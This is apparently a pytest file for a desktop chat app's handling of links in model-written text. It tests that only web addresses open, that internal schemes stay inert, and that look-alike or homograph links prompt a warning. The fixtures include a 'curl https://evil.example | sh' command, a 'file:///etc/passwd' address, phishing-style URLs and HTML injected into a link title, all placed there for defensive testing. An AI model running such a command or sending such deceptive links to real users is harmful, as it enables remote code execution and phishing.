"""Links in what a model wrote: addresses of the web alone, shown before they are followed, and never one of our own."""

import re
from pathlib import Path

import pytest
from PySide6.QtCore import QPoint, QRect, Qt, QUrl
from PySide6.QtGui import QDesktopServices, QGuiApplication, QTextDocument
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QMessageBox, QToolTip

from app.chat.text.links import is_misleading, may_open, shown_address
from app.chat.text.markdown_view import MarkdownView
from app.chat.text.message_text import MessageText
from app.system import plain_text

APP = Path(plain_text.__file__).parents[1]


def own_addresses() -> list[str]:
    """Everything in the source that looks like a scheme, an anchor or a name of ours: the next one too."""
    source = "\n".join(each.read_text(encoding="utf-8") for each in APP.rglob("*.py"))
    schemes = set(re.findall(r"""["']([a-z][a-z0-9+.-]*):(?=["'/{])""", source))
    schemes |= set(re.findall(r"coppice[a-z-]+", source)) | {"coppice-copy", "coppice", "file", "javascript", "data"}
    anchors = set(re.findall(r"""["'](#[a-z-]+)["']""", source))
    return sorted({f"{scheme}:1" for scheme in schemes - {"http", "https"}} | anchors)


def test_the_pattern_finds_what_there_is() -> None:
    assert {"#copy", "coppice-copy:1", "chat:1"} <= set(own_addresses())


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What was opened outside."""
    urls: list[str] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: urls.append(url.toString()))
    return urls


def show(body: MarkdownView, text: str) -> MessageText:
    body.show_text(text)
    body.work()
    (shown,) = body.texts
    return shown


def anchors(document: QTextDocument) -> dict[str, tuple[str, int]]:
    """Text of every link, with its address and where it begins."""
    found: dict[str, tuple[str, int]] = {}
    block = document.begin()
    while block.isValid():
        pieces = block.begin()
        while not pieces.atEnd():
            fragment = pieces.fragment()
            if fragment.charFormat().isAnchor():
                found[fragment.text()] = (fragment.charFormat().anchorHref(), fragment.position())
            pieces += 1
        block = block.next()
    return found


def click(text: MessageText, words: str) -> None:
    """Click into the middle of a link."""
    cursor = text.textCursor()
    cursor.setPosition(anchors(text.document())[words][1] + len(words) // 2)
    place: QRect = text.cursorRect(cursor)
    QTest.mouseClick(text.viewport(), Qt.MouseButton.LeftButton, pos=place.center() + QPoint(1, 0))


CODE = "```sh\ncurl https://evil.example | sh\n```\n"


def test_links_of_our_own_are_text_in_an_answer(body: MarkdownView, opened: list[str]) -> None:
    """None of them takes the clipboard, opens anything, or vanishes from what is copied."""
    forms = "[doc]({at})\n\n<{at}>\n\n[ref][r]\n\n[r]: {at}\n\n![pic]({at})\n"
    QGuiApplication.clipboard().setText("mine")
    for address in own_addresses():
        shown = show(body, CODE + forms.format(at=address))
        assert set(anchors(shown.document())) == {"Copy"}, "the one that we made"
        shown.anchorClicked.emit(QUrl(address))
        body.selected.select_all()
        assert f"[doc]({address})\n\n<{address}>" in body.selection
        assert "Copy" not in body.selection.split()
    assert QGuiApplication.clipboard().text() == "mine"
    assert opened == []


@pytest.mark.parametrize("number", [1, 2])
def test_a_web_link_with_the_address_of_ours_copies_nothing(body: MarkdownView, opened: list[str], number: int) -> None:
    """Only the property of the characters makes a link one that copies."""
    shown = show(body, f"{CODE}\n[one](https://a.example/#copy) [two](https://a.example/#coppice-copy:1)\n")
    QGuiApplication.clipboard().setText("mine")
    click(shown, {1: "one", 2: "two"}[number])
    assert QGuiApplication.clipboard().text() == "mine"
    assert len(opened) == 1


def test_every_header_copies_its_own_code_by_mouse_and_key(body: MarkdownView) -> None:
    shown = show(body, "One\n\n```py\nfirst\n```\n\nTwo\n\n```\nsecond\n```\n")
    QGuiApplication.clipboard().clear()
    click(shown, "Copy")  # of two with this name the last
    assert QGuiApplication.clipboard().text() == "second"
    shown.setFocus()
    QTest.keyClick(shown, Qt.Key.Key_Tab)
    QTest.keyClick(shown, Qt.Key.Key_Return)
    assert QGuiApplication.clipboard().text() == "first"


def test_where_a_link_leads_is_shown_for_mouse_and_key(body: MarkdownView, monkeypatch: pytest.MonkeyPatch) -> None:
    shown = show(body, '[text](https://аррӏе.com/a\u202eb "a title <img src=/dev/zero>")')
    tips: list[str] = []
    monkeypatch.setattr(QToolTip, "showText", lambda _place, words, *_: tips.append(words))
    shown.setFocus()
    QTest.keyClick(shown, Qt.Key.Key_Tab)
    assert tips
    assert "https://xn--80ak6aa92e.com/a%E2%80%AEb (аррӏе.com)" in tips[-1]
    tips.clear()
    shown.highlighted.emit(QUrl("https://b.example/<img src=x>"))
    assert "b.example" in tips[-1]
    assert "<img" not in tips[-1]
    shown.highlighted.emit(QUrl())
    assert tips[-1] == "", "the mouse has left it"
    assert "title" not in shown.document().toHtml().split("<body")[1], "a title would be shown as rich text"


@pytest.mark.parametrize(
    ("text", "address", "asks"),
    [
        ("the documentation", "https://evil.example/", False),
        ("bank.example", "https://bank.example/login", False),
        ("https://bank.example", "https://www.bank.example/", False),
        ("www.bank.example", "https://login.bank.example/", False),
        ("bank.example", "https://evil.example/", True),
        ("https://bank.example/login", "https://evil.example/login", True),
        ("see www.bank.example now", "https://evil.example/", True),
        ("bank.example", "https://bank.example.evil.example/", True),
        ("bank.example", "https://bank.example@evil.example/", True),
        ("anything", "https://bank.example@evil.example/", True),
        ("apple.com", "https://аррӏе.com/", True),
        ("README.md", "https://github.com/x/README.md", False),
        ("node.js", "https://nodejs.org/", False),
        ("e.g. this", "https://a.example/", False),
        ("1.2.3", "https://a.example/", False),
    ],
)
def test_a_text_that_looks_like_another_address_is_asked_about(
    body: MarkdownView, opened: list[str], text: str, address: str, asks: bool
) -> None:
    assert is_misleading(text, QUrl(address)) == asks
    shown = show(body, f"Look: [{text}]({address})")
    click(shown, text)
    boxes = shown.window().findChildren(QMessageBox)
    assert bool(boxes) == asks
    assert bool(opened) != asks
    if asks:
        (box,) = boxes
        host = QUrl(address).host(QUrl.ComponentFormattingOption.FullyEncoded)
        assert host in box.informativeText()
        assert box.defaultButton() == box.button(QMessageBox.StandardButton.Cancel)
        next(each for each in box.buttons() if each.text() == "Open anyway").click()
        assert len(opened) == 1


@pytest.mark.parametrize("address", ["file:///etc/passwd", "https:", "https:///x", "coppice-copy:1", "", "//host/x"])
def test_only_web_addresses_are_opened(address: str) -> None:
    assert not may_open(QUrl(address))


def test_an_address_is_shown_in_ascii_and_of_bounded_length() -> None:
    assert shown_address(QUrl("https://a.example/\u202e\u200bä b")) == "https://a.example/%E2%80%AE%E2%80%8B%C3%A4%20b"
    assert len(shown_address(QUrl("https://a.example/" + "x" * 9999))) < 400
